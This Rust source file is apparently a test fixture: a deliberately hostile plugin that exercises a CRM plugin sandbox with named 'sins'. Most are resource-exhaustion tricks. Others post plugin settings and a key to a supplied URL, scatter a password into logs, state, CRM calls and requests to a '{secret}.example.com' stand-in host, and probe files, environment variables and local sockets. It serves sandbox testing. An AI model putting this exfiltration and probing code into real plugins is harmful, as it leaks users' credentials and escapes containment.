//! A hostile plugin. The event's field `sin` names what it does; every event gets a fresh instance, so that one file
//! serves for all sins.

use std::time::{Duration, Instant, SystemTime};

use salesman_plugin_sdk::{Event, Host, Plugin, RecordKind, Reply, Request, Result};
use serde_json::{Map, Value, json};

struct Sinner;

impl Plugin for Sinner {
    fn handle(&self, event: Event, host: &Host) -> Result<Reply> {
        // The CRM's own events name no sin: then the settings do.
        let settings: Map<String, Value> = host.settings()?;
        let set = settings.get("sin").and_then(Value::as_str).unwrap_or_default();
        let sin = event.field("sin").unwrap_or(set).to_owned();
        match sin.as_str() {
            "none" => {}
            "loop" => spin(),
            "loop-in-calls" => loop {
                host.debug("again");
            },
            "many-calls" => loop {
                host.state().get::<String>("x")?;
            },
            "memory" => hoard(),
            "stack" => {
                host.info(deep(1).to_string());
            }
            "sleep" => std::thread::sleep(Duration::from_secs(60)),
            "panic" => stop("the price list is empty"),
            "exit" => std::process::exit(7),
            "long-reply" => return Reply::reject("x".repeat(1 << 20)),
            "gigantic-call" => host.info("z".repeat(6 << 20)),
            "long-log" => (0..10_000).for_each(|_| host.info("y".repeat(1_000))),
            "retry" if event.attempt < 3 => return Reply::retry_after(Duration::from_millis(1), "not yet"),
            "retry" => {}
            "once" if event.attempt < 2 => return Reply::reject("not the first time"),
            "once" => host.info("this time it went well"),
            "reject" => return Reply::reject("never"),
            "count" => {
                let seen: u64 = host.state().get("count")?.unwrap_or(0);
                host.state().set("count", &(seen + 1))?;
                host.info((seen + 1).to_string());
            }
            "state-then-panic" => {
                host.state().set("count", &1_000_000)?;
                stop("after a write");
            }
            "order" => {
                let mut seen: Vec<String> = host.state().get("order")?.unwrap_or_default();
                seen.push(event.field("n").unwrap_or_default().to_owned());
                host.state().set("order", &seen)?;
                host.info(seen.join(","));
            }
            // In all places where a plugin can leave something.
            "remember" => {
                let [key, value] = ["key", "value"].map(|name| event.field(name).unwrap_or_default().to_owned());
                host.state().set(&key, &value)?;
                host.info(&value);
                return Reply::skip_because(value);
            }
            "add-task" => {
                let title = event.field("title").unwrap_or("z");
                let answer = host.crm().call("task", "add", &json!({ "title": title, "datum": "2026-11-23" }))?;
                host.info(format!("task {}", answer.id().unwrap_or_default()));
                match (event.field("then").unwrap_or_default(), event.attempt) {
                    ("panic", 1) => stop("after the task"),
                    ("sleep", 1) => std::thread::sleep(Duration::from_secs(60)),
                    _ => {}
                }
            }
            // Any call with any arguments, as the event has them.
            "call" => {
                let (method, action) = event.field("call").and_then(|call| call.split_once('.')).unwrap_or_default();
                let with: Value = serde_json::from_str(event.field("with").unwrap_or("{}")).unwrap_or_default();
                let answer = host.crm().call(method, action, &with)?;
                host.info(format!("{}", answer.id().unwrap_or_default()));
            }
            "ask" => {
                let answer = host.crm().call("deal", "list", &json!({}));
                host.info(if answer.is_ok() { "answered".to_owned() } else { format!("{answer:?}") });
            }
            // Never the same twice: nothing in the CRM brakes it.
            "rewrite" => {
                let clid: u64 = event.field("clid").and_then(|clid| clid.parse().ok()).unwrap_or_default();
                host.crm().update(RecordKind::Client, clid, &json!({ "address": format!("улица {}", event.id) }))?;
            }
            "not-an-object" => {
                let refused = host.crm().call("task", "add", &json!(["no", "object"]));
                host.info(format!("{refused:?}"));
            }
            "not-asked" => {
                let refused = host.crm().call("client", "delete", &json!({ "clid": 1 }));
                host.info(format!("{refused:?}"));
            }
            "private" => {
                for url in ["http://127.0.0.1:9/", "http://localhost:9/", "https://example.com/"] {
                    host.info(format!("{:?}", host.http().send(&Request::new("GET", url))));
                }
            }
            "fetch" => {
                let url = event.field("url").unwrap_or_default();
                host.info(match host.http().send(&Request::new("POST", url).header("x-test", "1").body("sent")) {
                    Ok(response) => format!("{} {}", response.status, response.text()),
                    Err(error) => format!("{error:?}"),
                });
            }
            "tell" => {
                let settings: Map<String, Value> = host.settings()?;
                host.info(format!("the key is {}", settings.get("key").and_then(Value::as_str).unwrap_or_default()));
                let sent = host.http().post_json(event.field("url").unwrap_or_default(), &settings)?;
                host.info(sent.text());
            }
            "leak" => return leak(settings.get("password").and_then(Value::as_str).unwrap_or_default(), host),
            "outside" => host.info(outside()),
            "log-loop" => loop {
                host.info("z".repeat(number(&event, "bytes")));
            },
            // One instruction for each round.
            "fill" => {
                let mut memory = vec![0_u8; number(&event, "mib") << 20];
                (0..number(&event, "times")).for_each(|_| std::hint::black_box(&mut memory).fill(1));
            }
            "hold" => {
                let memory = vec![1_u8; number(&event, "mib") << 20];
                std::thread::sleep(Duration::from_millis(1_500));
                drop(std::hint::black_box(memory));
            }
            "hoard-state" => {
                let value = "v".repeat(number(&event, "bytes"));
                for n in 0..number(&event, "keys") {
                    host.state().set(&format!("{}-{n}", event.field("n").unwrap_or_default()), &value)?;
                }
            }
            "hoard-state-blindly" => {
                let value = "v".repeat(number(&event, "bytes"));
                host.info(format!("{:?}", host.state().set(event.field("n").unwrap_or_default(), &value)));
            }
            "clear-state" => {
                for key in host.state().keys("", None)? {
                    host.state().delete(&key)?;
                }
            }
            other => return Reply::skip_because(format!("no such sin: {other}")),
        }
        Reply::done()
    }
}

fn number(event: &Event, field: &str) -> usize {
    event.field(field).and_then(|text| text.parse().ok()).unwrap_or_default()
}

/// Puts a secret wherever something is recorded.
fn leak(secret: &str, host: &Host) -> Result<Reply> {
    let coded: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    host.info(format!("{secret} {coded}"));
    // A line is cut after 8 KiB: half a secret must not be left of it.
    host.info(format!("{}{secret}", "x".repeat((8 << 10) - secret.len() / 2)));
    host.info(format!("{:?}", host.state().set("kept", &secret)));
    host.info(format!("{:?}", host.state().set(secret, &1)));
    for (method, action) in [("task", "add"), ("client", "list"), (secret, "list"), ("client", secret)] {
        host.info(format!("{:?}", host.crm().call(method, action, &json!({ "title": secret, secret: secret }))));
    }
    for url in [format!("https://{secret}.example.com/{secret}?q={secret}"), format!("http://127.0.0.1:9/{secret}")] {
        host.info(format!("{:?}", host.http().send(&Request::new("GET", &url).header("x-key", secret).body(secret))));
    }
    Reply::reject(format!("because of {secret} and {coded}"))
}

fn spin() {
    let mut number = 0_u64;
    while std::hint::black_box(number) < u64::MAX {
        number = number.wrapping_add(1);
    }
}

fn hoard() {
    let mut hoard = Vec::new();
    loop {
        hoard.push(std::hint::black_box(vec![1_u8; 1 << 20]));
    }
}

fn deep(level: u64) -> u64 {
    if std::hint::black_box(level) == 0 { 0 } else { deep(level + 1) + std::hint::black_box(level) }
}

#[expect(clippy::panic, reason = "it is the sin")]
fn stop(words: &str) {
    panic!("{words}");
}

/// Everything that a program outside a sandbox could see.
fn outside() -> String {
    let files = std::fs::read_dir("/").map(|entries| entries.count()).map_err(|error| error.kind());
    let written = std::fs::write("/tmp/sin", "x").map_err(|error| error.kind());
    let variables = std::env::vars().count();
    let arguments = std::env::args().count();
    let socket = std::net::TcpStream::connect("127.0.0.1:80").map(drop).map_err(|error| error.kind());
    let clock =
        SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).is_ok() && Instant::now().elapsed().as_secs() == 0;
    format!(
        "files {files:?} written {written:?} variables {variables} arguments {arguments} socket {socket:?} clock {clock}"
    )
}

salesman_plugin_sdk::export!(Sinner);
